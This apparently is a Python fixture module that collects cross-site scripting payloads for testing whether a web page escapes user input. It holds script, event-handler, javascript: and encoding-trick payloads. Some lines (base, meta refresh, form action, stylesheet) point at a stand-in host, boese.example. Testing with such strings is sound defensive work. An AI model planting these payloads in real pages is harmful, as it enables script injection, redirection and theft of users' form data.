"""What somebody types who wants the page to obey them: our own attempts, and others' where they are there."""

import json
import re
import unicodedata
from pathlib import Path

SECURITY = Path("../shared/data/security")
UNSEEN = re.compile("[\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ufeff\ufff9-\ufffb\ud800-\udfff]")
EVERY = 240  # one line of so many is tried each time, all of them in the long run
EVERY_NAUGHTY = 6

# written raw into a page without a policy, each of these would run as soon as the page is open
SHARP = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(2)>',
    "'><svg onload=alert(3)>",
    "</textarea><script>alert(4)</script>",
    "</title><script>alert(5)</script>",
    "<iframe srcdoc='<script>parent.alert(6)</script>'></iframe>",
    "<input autofocus onfocus=prompt(7)>",
    "<details open ontoggle=confirm(8)><summary>Termine</summary></details>",
    "<video><source onerror=alert(9)></video>",
    "</bdi></h1><script>print()</script>",
    "</script><script>alert(11)</script>",
    "<img src=x onerror=alert`12`>",
    "<!--><img src=x onerror=alert(13)>-->",
    "<svg><animate onbegin=alert(14) attributeName=x dur=1s>",
    "<math><mtext><img src=x onerror=alert(15)></mtext></math>",
    "https://bank.example/<img src=x onerror=alert(16)>",
    "<iframe src='javascript:parent.alert(17)'></iframe>",
]
# these wait for a hand, another reader, or a second decoding
PATIENT = [
    '" onmouseover=alert(21) x="',
    "' autofocus onfocus=alert(22) '",
    "<a href='javascript:alert(23)'>Hier klicken</a>",
    "javascript:alert(24)",
    "[Hier klicken](javascript:alert(25))",
    "<base href='//boese.example/'>",
    "<meta http-equiv=refresh content='0;url=//boese.example/'>",
    "<form action='//boese.example/'><button>Weiter",
    "<link rel=stylesheet href='//boese.example/x.css'>",
    "&lt;img src=x onerror=alert(28)&gt; &#60;script&#62;alert(28)&#60;/script&#62;",
    "＜script＞alert(29)＜/script＞",
    "{{ 7*7 }} ${alert(30)} <%= alert(30) %> #{alert(30)}",
    'www.bank.example/"onmouseover="alert(31)',
    "%3Cscript%3Ealert(32)%3C/script%3E",
    "مرحبا <img src=x onerror=alert(33)> سلام",
]
OWN = SHARP + PATIENT


def sample() -> list[str]:
    """Our own; where the shared data are, some lines of the box and some of the naughty strings about scripts."""
    box, naughty = shared()
    return unique(OWN + box[::EVERY] + [one for one in naughty if "script" in one.lower()][::EVERY_NAUGHTY])


def everything() -> list[str]:
    box, naughty = shared()
    return unique(OWN + box + naughty)


def shared() -> tuple[list[str], list[str]]:
    if not SECURITY.is_dir():
        return [], []
    box = (SECURITY / "xss_payloadbox.txt").read_text(encoding="utf-8").splitlines()
    naughty: list[str] = json.loads((SECURITY / "blns.json").read_text(encoding="utf-8"))
    return box, naughty


def unique(typed: list[str]) -> list[str]:
    """Each once, as words: what differs only in blanks is the same."""
    return list({squeezed(one): one for one in typed if squeezed(one)}.values())


def squeezed(words: str) -> str:
    """Without blanks and marks nobody sees, composed: how a page lays the words out is no matter."""
    return "".join(UNSEEN.sub("", unicodedata.normalize("NFC", words)).split())
